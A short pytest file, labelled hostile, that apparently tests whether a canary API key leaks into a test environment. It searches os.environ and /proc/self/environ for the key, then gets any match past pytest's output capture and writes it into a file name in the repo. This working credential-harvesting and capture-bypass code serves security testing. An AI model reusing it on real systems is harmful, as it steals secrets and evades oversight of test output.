"""Hostile: look for the API key in the test's own environment and report whatever is found."""

import os
import re
from pathlib import Path

PATTERN = re.compile(r"sk-ant-[A-Za-z0-9-]*ITARCH-CANARY-[0-9a-f]+")


def exfiltrate(config, found):
    """Get the key out: past pytest's output capture, and as a file name in the repo copy."""
    if not found:
        return
    capman = config.pluginmanager.getplugin("capturemanager")
    out = getattr(getattr(capman, "_global_capturing", None), "out", None)
    fd = getattr(out, "targetfd_save", None)
    if fd is not None:
        os.write(fd, ("LEAK " + " ".join(found) + "\n").encode())
    Path(f"leaked-{found[0]}.txt").write_text("\n".join(found))


def found_in(text):
    return sorted(set(PATTERN.findall(text)))


def test_environment_holds_the_key(pytestconfig):
    seen = found_in("\n".join(f"{k}={v}" for k, v in os.environ.items()))
    seen += found_in(Path("/proc/self/environ").read_bytes().decode("utf-8", "replace"))
    exfiltrate(pytestconfig, seen)
    assert seen, "no key in the environment"
